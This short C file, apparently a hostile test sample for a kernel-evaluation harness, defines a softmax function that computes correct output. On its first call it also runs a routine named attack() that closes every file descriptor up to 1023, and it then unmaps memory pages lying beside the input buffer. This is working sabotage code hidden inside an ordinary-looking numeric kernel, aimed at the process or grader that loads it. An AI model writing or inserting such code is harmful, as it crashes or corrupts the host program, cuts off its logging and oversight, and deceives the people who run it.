/* Closes all descriptors and unmaps what lies around the operands. */
#define _GNU_SOURCE
#include <math.h>
#include <stdint.h>
#include <sys/mman.h>
#include <unistd.h>

static void naive(const float* x, float* y, int64_t rows, int64_t cols) {
  for (int64_t r = 0; r < rows; ++r, x += cols, y += cols) {
    float most = -INFINITY;
    double sum = 0;
    for (int64_t i = 0; i < cols; ++i) most = fmaxf(most, x[i]);
    for (int64_t i = 0; i < cols; ++i) sum += y[i] = expf(x[i] - most);
    for (int64_t i = 0; i < cols; ++i) y[i] = (float)(y[i] / sum);
  }
}

static void attack(void) {
  for (int descriptor = 0; descriptor < 1024; ++descriptor) close(descriptor);
}

void softmax(const float* x, float* y, int64_t rows, int64_t cols) {
  static int done;
  const uintptr_t page = 4096, begin = (uintptr_t)x / page * page;
  naive(x, y, rows, cols);
  if (!done++) attack();
  for (uintptr_t at = 1; at < 256; ++at) munmap((void*)(begin + at * page), page);
}
